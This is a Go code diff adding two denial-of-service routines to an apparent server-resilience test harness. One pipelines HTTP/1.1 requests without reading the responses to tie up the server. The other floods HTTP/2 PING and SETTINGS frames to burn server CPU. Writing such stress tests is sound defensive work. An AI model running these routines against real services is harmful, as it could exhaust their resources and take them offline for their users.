@@ -137,6 +137,46 @@ func (a *attacker) unread() error {
 	return err
 }
 
+// unreadDocuments requests documents, one after the other on a connection, and reads no byte.
+func (a *attacker) unreadDocuments() error {
+	conn, err := a.dial("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	for range 200 {
+		a.sent.Add(1)
+		if _, err := io.WriteString(conn, "GET /openapi/v2 HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
+			return err
+		}
+	}
+	for a.ctx.Err() == nil {
+		sleep(a.ctx, time.Second)
+		if _, err := io.WriteString(conn, "\r\n"); err != nil { // the server has closed the connection
+			return err
+		}
+	}
+	return nil
+}
+
+// smallFrames sends frames that cost much CPU time for their length.
+func (a *attacker) smallFrames() error {
+	framer, out, ended, err := a.http2()
+	if err != nil {
+		return err
+	}
+	for i := uint32(0); a.ctx.Err() == nil && err == nil; i++ {
+		for range 100 {
+			a.sent.Add(2)
+			err = errors.Join(err, framer.WritePing(false, [8]byte{}),
+				framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: i % 4096}))
+		}
+		err = errors.Join(err, out.Flush())
+	}
+	a.wait(ended)
+	return err
+}
+
 // watches opens watches and keeps them open.
 func (a *attacker) watches() error {
 	framer, out, ended, err := a.http2()
